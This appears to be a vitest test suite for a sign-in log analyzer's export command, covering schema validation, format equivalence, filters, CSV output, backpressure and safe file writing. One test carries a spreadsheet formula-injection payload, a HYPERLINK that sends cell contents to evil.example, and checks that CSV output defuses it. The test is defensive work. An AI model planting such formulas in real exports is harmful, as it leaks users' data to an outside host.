// `signin-analyzer export`: one record per sign-in, the same records from every source format, as many as the
// report counts (after de-duplication, filters and period), valid against schema/export-record.schema.json, CSV
// defused against formulas, written with backpressure, and complete or an error.

import { lstatSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, statSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { Readable } from 'node:stream';
import { Ajv2020 } from 'ajv/dist/2020.js';
import { parse } from 'csv-parse/sync';
import { afterAll, describe, expect, it } from 'vitest';
import { EXPORT_RECORD_SCHEMA } from '../src/export/record-contract.js';
import { EXPORT_FIELDS } from '../src/export/record.js';
import { openSink } from '../src/export/sink.js';
import { main } from '../src/main.js';
import { repoRoot } from './helpers/exec.js';
import { runMain, testIo } from './helpers/io.js';

const NOW = ['--now', '2026-11-16T08:00:00Z'];
const SAMPLE = 'fixtures/sample/InteractiveSignIns_sample.csv';
const OVERLAP = ['fixtures/overlap/InteractiveSignIns_2026-11-09_2026-11-12.csv', 'fixtures/overlap/InteractiveSignIns_2026-11-11_2026-11-15.csv'];
const workdir = mkdtempSync(path.join(tmpdir(), 'cli-export-'));
afterAll(() => rmSync(workdir, { recursive: true, force: true }));

type ExportRecord = Record<string, string | number | boolean | null>;

const ajv = new Ajv2020({ allErrors: true, strict: true });
ajv.addFormat('date-time', /^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}(\.\d{3})?Z$/);
const validate = ajv.compile(JSON.parse(readFileSync(path.join(repoRoot, 'schema/export-record.schema.json'), 'utf8')) as object);

async function exportLines(args: readonly string[]): Promise<ExportRecord[]> {
  const result = await runMain(['export', ...args, ...NOW, '--quiet']);
  expect(result).toMatchObject({ status: 0, stderr: '' });
  const lines = result.stdout.split('\n');
  expect(lines.pop()).toBe('');
  return lines.map((line) => {
    const record = JSON.parse(line) as ExportRecord;
    expect(validate(record), JSON.stringify(validate.errors)).toBe(true);
    expect(Object.keys(record)).toEqual(EXPORT_FIELDS);
    return record;
  });
}

async function reportSignIns(args: readonly string[]): Promise<number> {
  const result = await runMain(['report', ...args, ...NOW, '--format', 'json', '--quiet']);
  return (JSON.parse(result.stdout) as { accounting: { signIns: number } }).accounting.signIns;
}

describe('the record contract', () => {
  it('schema/export-record.schema.json is what the contract definition writes (npm run schema)', () => {
    const file = JSON.parse(readFileSync(path.join(repoRoot, 'schema/export-record.schema.json'), 'utf8')) as unknown;
    expect(file).toEqual(JSON.parse(JSON.stringify(EXPORT_RECORD_SCHEMA)));
    // The CSV header, every JSON line and the schema list the fields in the same order.
    expect(Object.keys(EXPORT_RECORD_SCHEMA.properties)).toEqual(EXPORT_FIELDS);
    expect(EXPORT_RECORD_SCHEMA.required).toEqual(EXPORT_FIELDS);
  });
});

describe('the same sign-ins from every source format', () => {
  // The equivalence fixtures: the same fifteen sign-ins in every format (see ingest.equivalence.test.ts).
  const SOURCES: Record<string, readonly string[]> = {
    'portal CSV': ['InteractiveSignIns_equivalence.csv', 'ApplicationSignIns_equivalence.csv', 'MSISignIns_equivalence.csv'].map(
      (name) => `fixtures/equivalence/${name}`,
    ),
    'portal JSON': ['InteractiveSignIns_equivalence.json', 'ApplicationSignIns_equivalence.json', 'MSISignIns_equivalence.json'].map(
      (name) => `fixtures/equivalence/${name}`,
    ),
    'diagnostic JSON Lines': ['fixtures/equivalence/diagnostic_equivalence.jsonl'],
    'Log Analytics CSV': ['fixtures/equivalence/LogAnalytics_equivalence.csv'],
    'Log Analytics CSV, UTF-16': ['fixtures/transport/LogAnalytics_equivalence.utf16le.csv'],
    'diagnostic JSON Lines, gzip': ['fixtures/transport/diagnostic_equivalence.jsonl.gz'],
  };

  /**
   * What may differ by design: where the record was read (file and line), the status text as each source writes it,
   * and the home tenant's name, which Graph leaves empty for service principals and Log Analytics does not carry.
   */
  const comparable = (records: readonly ExportRecord[]) =>
    records
      .map(({ sourceFile: _file, sourceLine: _line, status: _status, homeTenantName: _name, ...rest }) => rest)
      .sort((a, b) => String(a['time']).localeCompare(String(b['time'])) || String(a['requestId']).localeCompare(String(b['requestId'])));

  it('gives the same records, one per sign-in, as many as the report counts', async () => {
    const reference = await exportLines(SOURCES['portal CSV']!);
    expect(reference).toHaveLength(15);
    for (const [name, inputs] of Object.entries(SOURCES)) {
      const records = await exportLines(inputs);
      expect(comparable(records), name).toEqual(comparable(reference));
      expect(records.length, name).toBe(await reportSignIns(inputs));
      for (const record of records) expect(inputs.map((input) => path.normalize(input))).toContain(path.normalize(String(record['sourceFile'])));
    }
  });

  it('reading them all at once gives each sign-in once', async () => {
    const all = [...new Set(Object.values(SOURCES).flat())];
    const records = await exportLines(all);
    expect(records).toHaveLength(15);
    expect(new Set(records.map((record) => record['requestId'])).size).toBe(15);
  });

  it('joins the catalog: name, outcome, category and actor of the code', async () => {
    const records = await exportLines(SOURCES['portal CSV']!);
    const byCode = new Map(records.map((record) => [record['errorCode'], record]));
    expect(byCode.get(50126)).toMatchObject({ outcome: 'failure', category: 'credentials', actor: 'end_user', catalogued: true });
    expect(byCode.get(50074)).toMatchObject({ outcome: 'interrupted', catalogued: true });
    expect(byCode.get(9999999)).toMatchObject({ outcome: 'failure', category: 'unknown', catalogued: false, codeName: '' });
    expect(byCode.get(0)).toMatchObject({ outcome: 'success' });
  });
});

describe('the same sign-ins as the report, with its filters', () => {
  it.each([
    [[SAMPLE]],
    [OVERLAP],
    [[SAMPLE, '--outcome', 'failure']],
    [[SAMPLE, '--period', '2026-11-10..2026-11-12', '--user', 'megan.bowen@contoso.example']],
    [[SAMPLE, '--since', '2026-11-12T06:00', '--until', '2026-11-14', '--type', 'interactive', '--code', '50126,50053']],
    [[...OVERLAP, '--keep-duplicates']],
  ])('%j', async (args) => {
    const records = await exportLines(args);
    expect(records.length).toBe(await reportSignIns(args));
  });

  it('CSV holds the same records as JSON Lines, with a header row', async () => {
    const jsonl = await exportLines([SAMPLE]);
    const result = await runMain(['export', SAMPLE, ...NOW, '--format', 'csv', '--quiet']);
    const rows = parse(result.stdout, { columns: true }) as Record<string, string>[];
    expect(result.stdout.split('\n')[0]).toBe(EXPORT_FIELDS.join(','));
    expect(rows).toHaveLength(jsonl.length);
    const asCsv = (value: string | number | boolean | null): string => (value === null ? '' : String(value));
    expect(rows).toEqual(jsonl.map((record) => Object.fromEntries(EXPORT_FIELDS.map((field) => [field, asCsv(record[field] ?? null)]))));
  });
});

describe('hostile values', () => {
  it('CSV cells a spreadsheet would run as a formula get a leading apostrophe; JSON keeps the text as it is', async () => {
    const jsonl = await exportLines(['fixtures/formats/hostile-values.csv']);
    const result = await runMain(['export', 'fixtures/formats/hostile-values.csv', ...NOW, '--format', 'csv', '--quiet']);
    const rows = parse(result.stdout, { columns: true }) as Record<string, string>[];
    const apps = jsonl.map((record) => String(record['app']));
    expect(apps).toContain('=HYPERLINK("https://evil.example/?q="&A1,"Open report")');
    rows.forEach((row, i) => {
      for (const field of EXPORT_FIELDS) {
        const value = jsonl[i]![field] ?? null;
        if (typeof value !== 'string') continue;
        expect(row[field]).toBe(/^\s*[=+\-@]|^[\t\r]/.test(value) ? `'${value}` : value);
      }
    });
  });
});

describe('writing', () => {
  it('waits for standard output: one write at a time, everything in order', async () => {
    let outstanding = 0;
    let most = 0;
    const chunks: string[] = [];
    const io = testIo({
      env: {},
      stdout: async (output) => {
        outstanding++;
        most = Math.max(most, outstanding);
        await new Promise((resolve) => setTimeout(resolve, 1));
        chunks.push(String(output));
        outstanding--;
      },
    });
    // Three thousand sign-ins: enough for many batches.
    const [header, ...rows] = readFileSync(path.join(repoRoot, SAMPLE), 'utf8').trimEnd().split('\n');
    const many = Array.from({ length: 11 }, (_, copy) =>
      rows.map((row) => row.replace(/^([^,]*,)(.)/, (_all, time: string) => `${time}${copy.toString(16)}`)),
    ).flat();
    const file = path.join(workdir, 'InteractiveSignIns_many.csv');
    writeFileSync(file, `${[header, ...many].join('\n')}\n`);
    expect(await main(['export', file, '--quiet'], io)).toBe(0);
    expect(most).toBe(1);
    const lines = chunks.join('').trimEnd().split('\n');
    expect(lines).toHaveLength(many.length);
    expect(lines.map((line) => (JSON.parse(line) as { sourceLine: number }).sourceLine)).toEqual(many.map((_row, i) => i + 2));
  });

  it('the sink holds reading back while too much is unwritten, and lets it go once written', async () => {
    const release: (() => void)[] = [];
    const sink = await openSink(null, { stdout: () => new Promise<void>((resolve) => release.push(resolve)) });
    const line = `${'x'.repeat(1023)}\n`;
    for (let i = 0; i < 512; i++) sink.write(line);
    expect(sink.pace()).toBeUndefined();
    for (let i = 0; i < 1024; i++) sink.write(line);
    const waiting = sink.pace();
    expect(waiting).toBeInstanceOf(Promise);
    let done = false;
    void waiting!.then(() => {
      done = true;
    });
    await new Promise((resolve) => setTimeout(resolve, 5));
    expect(done).toBe(false);
    // Batches go one at a time: release each as it is asked for.
    while (!done) {
      release.shift()?.();
      await new Promise((resolve) => setTimeout(resolve, 0));
    }
    expect(done).toBe(true);
  });

  it('a full disk on standard output is an error (exit 2); a closed pipe ends quietly (exit 0)', async () => {
    const failing = (code: string) =>
      testIo({
        env: {},
        stdout: () => Promise.reject(Object.assign(new Error(`write ${code}`), { code, syscall: 'write' })),
      });
    const full = failing('ENOSPC');
    expect(await main(['export', SAMPLE, '--quiet'], full)).toBe(2);
    expect(full.err.join('')).toBe(
      'signin-analyzer: cannot write to standard output (ENOSPC); the output is incomplete — check the disk or the pipe it goes to\n',
    );
    const closed = failing('EPIPE');
    expect(await main(['export', SAMPLE, '--quiet'], closed)).toBe(0);
    expect(closed.err.join('')).toBe('');
  });

  it('--output is written whole, and a run that fails leaves the old file and no temporary one', async () => {
    const dir = path.join(workdir, 'out');
    const target = path.join(dir, 'signins-{format}.jsonl');
    const written = await runMain(['export', SAMPLE, ...NOW, '--output', target, '--quiet']);
    expect(written).toMatchObject({ status: 0, stdout: '' });
    const file = path.join(dir, 'signins-jsonl.jsonl');
    expect(readFileSync(file, 'utf8').trimEnd().split('\n')).toHaveLength(315);
    writeFileSync(file, 'old');
    const failed = await runMain(['export', SAMPLE, 'fixtures/bad/unreadable-date.csv', ...NOW, '--output', target, '--strict']);
    expect(failed.status).toBe(2);
    expect(failed.stderr).toMatch(/unreadable-date\.csv:\d+: unusable row/);
    expect(readFileSync(file, 'utf8')).toBe('old');
    expect(readdirSync(dir)).toEqual(['signins-jsonl.jsonl']);
  });

  it('--output ending in .csv writes CSV, through a symbolic link to the file it names, keeping its permissions', async () => {
    const dir = path.join(workdir, 'linked');
    mkdirSync(dir);
    writeFileSync(path.join(dir, 'week.csv'), 'old', { mode: 0o600 });
    symlinkSync('week.csv', path.join(dir, 'latest.csv'));
    expect(await runMain(['export', SAMPLE, ...NOW, '--output', path.join(dir, 'latest.csv'), '--quiet'])).toMatchObject({ status: 0, stdout: '' });
    const csv = await runMain(['export', SAMPLE, ...NOW, '--format', 'csv', '--quiet']);
    expect(readFileSync(path.join(dir, 'week.csv'), 'utf8')).toBe(csv.stdout);
    expect(lstatSync(path.join(dir, 'latest.csv')).isSymbolicLink()).toBe(true);
    expect(statSync(path.join(dir, 'week.csv')).mode & 0o777).toBe(0o600);
    expect(readdirSync(dir).sort()).toEqual(['latest.csv', 'week.csv']);
  });

  it('stdin is read like any input', async () => {
    const io = testIo({ env: {}, stdin: Readable.from([readFileSync(path.join(repoRoot, SAMPLE))]) });
    expect(await main(['export', '-', '--quiet', '--format', 'csv'], io)).toBe(0);
    expect(io.out.join('').trimEnd().split('\n')).toHaveLength(316);
  });
});

describe('warnings', () => {
  it('the coverage warnings and the filters leaving nothing are said on stderr, not in the records', async () => {
    const result = await runMain(['export', SAMPLE, ...NOW, '--since', '2030-01-01']);
    expect(result.status).toBe(0);
    expect(result.stdout).toBe('');
    expect(result.stderr).toContain('warning: the inputs hold interactive sign-ins but no non-interactive ones');
    expect(result.stderr).toContain('warning: no sign-in matches the filters (315 outside the time window, 0 filtered out)');
  });

  it('authentication details are read first, and said to be of no use to an export; the records are the sign-ins alone', async () => {
    const details = 'fixtures/sample/InteractiveSignIns_AuthDetails_sample.csv';
    const result = await runMain(['export', SAMPLE, details, ...NOW]);
    expect(result.status).toBe(0);
    expect(result.stdout).toBe((await runMain(['export', SAMPLE, ...NOW, '--quiet'])).stdout);
    expect(result.stderr).toContain(`${details}: warning: authentication details are joined to the sign-ins in a report`);
  });
});
